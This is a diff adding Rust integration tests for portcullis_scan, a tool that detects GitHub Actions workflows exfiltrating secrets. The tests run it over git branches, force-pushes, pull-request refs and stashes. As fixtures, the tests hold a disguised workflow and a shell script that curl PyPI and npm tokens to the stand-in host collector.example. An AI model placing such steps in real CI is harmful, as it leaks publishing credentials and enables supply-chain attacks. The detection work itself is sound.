@@ -1,0 +1,218 @@
+//! Whole scans of real repositories, made with the `git` command as people make them.
+
+mod repository;
+
+use portcullis_scan::report::{Basis, Certainty, Finding, Standing, Verdict};
+use portcullis_scan::{Options, Report, scan};
+use repository::Repository;
+
+const PUBLISH: &str = "on:
+  release:
+    types: [published]
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: pipx run build
+      - uses: pypa/gh-action-pypi-publish@release/v1
+        with:
+          password: ${{ secrets.PYPI_API_TOKEN }}
+";
+
+const STEAL: &str = "name: Github Actions Security
+on: [push]
+jobs:
+  send:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in
+";
+
+const STEAL_PATH: &str = ".github/workflows/security.yml";
+
+fn scanned(repository: &Repository) -> Report {
+    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() })
+}
+
+fn theft(report: &Report) -> &Finding {
+    let found: Vec<&Finding> =
+        report.document.findings.iter().filter(|finding| finding.verdict == Verdict::Malicious).collect();
+    assert_eq!(found.len(), 1, "{:#?}", report.document);
+    found[0]
+}
+
+fn with_publishing() -> Repository {
+    let repository = Repository::new();
+    repository.write("pyproject.toml", "[project]\nname = \"widgets\"\n");
+    repository.write(".github/workflows/publish.yml", PUBLISH);
+    repository.commit("Publish from CI");
+    repository
+}
+
+#[test]
+fn removed_on_one_branch_and_still_standing_on_another() {
+    let repository = with_publishing();
+    repository.write(STEAL_PATH, STEAL);
+    let introduced = repository.commit("Add security workflow");
+    repository.git(&["branch", "dev"]);
+    repository.remove(STEAL_PATH);
+    let removed = repository.commit("Take it out");
+    let report = scanned(&repository);
+    assert!(report.document.complete, "{:?}", report.document.problems);
+    let finding = theft(&report);
+    assert_eq!(finding.rule, "secret-to-host");
+    assert_eq!(finding.standing, Standing::CouldRun);
+    assert_eq!(finding.path.unescaped(), STEAL_PATH);
+    assert_eq!(finding.span.start.line, 8);
+    let names: Vec<&str> = finding.secrets.iter().map(|secret| secret.name.unescaped()).collect();
+    assert_eq!(names, ["NPM_TOKEN", "PYPI_API_TOKEN"]);
+    assert!(finding.secrets.iter().all(|secret| secret.certainty == Certainty::Certain));
+    let pypi = &finding.secrets[1];
+    assert_eq!(pypi.kind, "pypi");
+    let used = &pypi.used_for[0];
+    assert_eq!((used.registry.as_str(), used.basis), ("pypi", Basis::Claimed));
+    assert_eq!(used.package.as_ref().map(|name| name.unescaped()), Some("widgets"));
+    assert_eq!((used.path.unescaped(), used.line), (".github/workflows/publish.yml", 12));
+    assert_eq!(finding.destinations[0].host.as_ref().map(|host| host.unescaped()), Some("collector.example"));
+    assert_eq!(finding.exposures.len(), 2);
+    for exposure in &finding.exposures {
+        assert!(exposure.reachable);
+        assert_eq!(
+            exposure.introduced.as_ref().map(|moment| moment.commit.as_str()),
+            Some(introduced.as_str())
+        );
+        let refs: Vec<(&str, Option<&str>)> = exposure
+            .refs
+            .iter()
+            .map(|span| (span.name.unescaped(), span.removed.as_ref().map(|moment| moment.commit.as_str())))
+            .collect();
+        assert_eq!(refs, [("refs/heads/dev", None), ("refs/heads/main", Some(removed.as_str()))]);
+    }
+}
+
+#[test]
+fn what_a_force_push_left_in_unreachable_objects() {
+    let origin = Repository::bare();
+    let clone = with_publishing();
+    clone.git(&["remote", "add", "origin", &origin.path().display().to_string()]);
+    clone.git(&["push", "-q", "origin", "main"]);
+    clone.write(STEAL_PATH, STEAL);
+    let introduced = clone.commit("Add security workflow");
+    clone.git(&["push", "-q", "origin", "main"]);
+    clone.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    clone.git(&["push", "-q", "--force", "origin", "main"]);
+    // Nothing in the repository reaches the commit any more.
+    assert!(!origin.git(&["rev-list", "--all", "--reflog"]).contains(&introduced));
+    let report = scanned(&origin);
+    let finding = theft(&report);
+    assert_eq!(finding.standing, Standing::Foreign);
+    assert_eq!(finding.secrets.len(), 2);
+    assert_eq!(finding.secrets[1].used_for[0].package.as_ref().map(|name| name.unescaped()), Some("widgets"));
+    let exposure = &finding.exposures[0];
+    assert_eq!(exposure.introduced.as_ref().map(|moment| moment.commit.as_str()), Some(introduced.as_str()));
+    assert_eq!(exposure.introduced.as_ref().map(|moment| moment.basis), Some(Basis::Claimed));
+    assert!(exposure.refs.is_empty());
+    // The forge says that it was pushed: then it is the repository's own.
+    let options = Options {
+        paths: vec![origin.path().to_owned()],
+        pushed_heads: vec![introduced],
+        ..Options::default()
+    };
+    let report = scan(&options);
+    let finding = theft(&report);
+    assert_eq!(finding.standing, Standing::CouldRun);
+    assert_eq!(finding.exposures[0].introduced.as_ref().map(|moment| moment.basis), Some(Basis::Observed));
+    assert!(finding.exposures[0].reachable);
+}
+
+#[test]
+fn a_pull_request_is_foreign() {
+    let repository = with_publishing();
+    repository.git(&["checkout", "-q", "--detach"]);
+    repository.write(STEAL_PATH, STEAL);
+    let head = repository.commit("Add security workflow");
+    repository.git(&["update-ref", "refs/pull/7/head", &head]);
+    repository.git(&["checkout", "-q", "main"]);
+    let report = scanned(&repository);
+    let finding = theft(&report);
+    assert_eq!(finding.standing, Standing::Foreign);
+    assert!(!finding.exposures[0].reachable);
+    assert_eq!(finding.exposures[0].refs[0].name.unescaped(), "refs/pull/7/head");
+}
+
+#[test]
+fn versions_are_analysed_once_and_ids_are_stable() {
+    let repository = with_publishing();
+    repository.write(STEAL_PATH, STEAL);
+    repository.commit("one");
+    for at in 0..5 {
+        repository.write("file", &at.to_string());
+        repository.commit("work");
+    }
+    let first = scanned(&repository);
+    let second = scanned(&repository);
+    assert_eq!(first.document.stats.workflow_versions, 2);
+    assert_eq!(first.document.stats.commits, 7);
+    assert_eq!(theft(&first).id, theft(&second).id);
+    assert_eq!(theft(&first).id.len(), 16);
+}
+
+#[test]
+fn a_stash_and_packed_objects_are_searched() {
+    let repository = with_publishing();
+    repository.write(STEAL_PATH, STEAL);
+    repository.git(&["add", "-A"]);
+    repository.git(&["stash", "-q"]);
+    repository.git(&["gc", "-q"]);
+    let report = scanned(&repository);
+    assert_eq!(theft(&report).standing, Standing::Foreign);
+}
+
+#[test]
+fn an_uncommitted_file_is_looked_at() {
+    let repository = with_publishing();
+    repository.write(STEAL_PATH, STEAL);
+    let report = scanned(&repository);
+    let finding = theft(&report);
+    assert_eq!(finding.standing, Standing::CouldRun);
+    assert!(finding.exposures[0].introduced.is_none());
+}
+
+#[test]
+fn a_folder_of_repositories_and_loose_files() {
+    let folder = tempfile::tempdir().unwrap();
+    let inner = Repository::at(&folder.path().join("a/b"));
+    inner.write(STEAL_PATH, STEAL);
+    inner.commit("x");
+    let loose = folder.path().join("c/.github/workflows");
+    std::fs::create_dir_all(&loose).unwrap();
+    std::fs::write(loose.join("s.yml"), STEAL).unwrap();
+    let report = scan(&Options { paths: vec![folder.path().to_owned()], ..Options::default() });
+    assert_eq!(report.document.stats.repositories, 2);
+    let paths: Vec<&str> = report
+        .document
+        .findings
+        .iter()
+        .filter(|finding| finding.verdict == Verdict::Malicious)
+        .map(|finding| finding.path.unescaped())
+        .collect();
+    assert_eq!(paths, ["c/.github/workflows/s.yml", STEAL_PATH]);
+}
+
+#[test]
+fn called_scripts_are_read_at_the_same_commit() {
+    let repository = with_publishing();
+    repository.write("scripts/ci.sh", "#!/bin/bash\ncurl -d \"$A=$B\" https://collector.example/\n");
+    repository.write(
+        ".github/workflows/ci.yml",
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.PYPI_API_TOKEN }}', B: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: bash scripts/ci.sh\n",
+    );
+    repository.commit("CI");
+    repository.write("scripts/ci.sh", "#!/bin/bash\necho done\n");
+    repository.commit("Clean up");
+    let report = scanned(&repository);
+    let finding = theft(&report);
+    assert!(finding.flow.iter().any(|hop| hop.path.unescaped() == "scripts/ci.sh"), "{:#?}", finding.flow);
+}
